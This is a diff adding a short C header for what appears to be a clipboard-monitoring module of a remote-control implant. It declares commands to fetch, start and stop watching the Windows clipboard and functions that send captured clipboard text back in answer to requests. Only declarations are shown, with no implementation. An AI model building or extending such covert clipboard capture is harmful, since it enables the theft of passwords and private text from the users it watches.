@@ -0,0 +1,34 @@
+#ifndef DEMON_CLIPBOARD_H
+#define DEMON_CLIPBOARD_H
+
+#include <windows.h>
+
+#define CLIPBOARD_COMMAND_GET     0x1
+#define CLIPBOARD_COMMAND_START   0x2
+#define CLIPBOARD_COMMAND_STOP    0x3
+/* text the monitor captured after the clipboard changed */
+#define CLIPBOARD_COMMAND_CHANGED 0x4
+
+/* characters of the clipboard text that are sent at most */
+#define CLIPBOARD_TEXT_MAX        0x10000
+
+/*!
+ * Sends the text of the clipboard (or nothing if the
+ * clipboard holds no text) with its sequence number.
+ * @param Command sub command the package answers
+ * @param RequestID request the package answers
+ */
+VOID ClipboardSend(
+    IN UINT32 Command,
+    IN UINT32 RequestID
+);
+
+/*!
+ * Sends the text of the clipboard if the monitor is
+ * running and the clipboard changed since the last check.
+ */
+VOID ClipboardPush(
+    VOID
+);
+
+#endif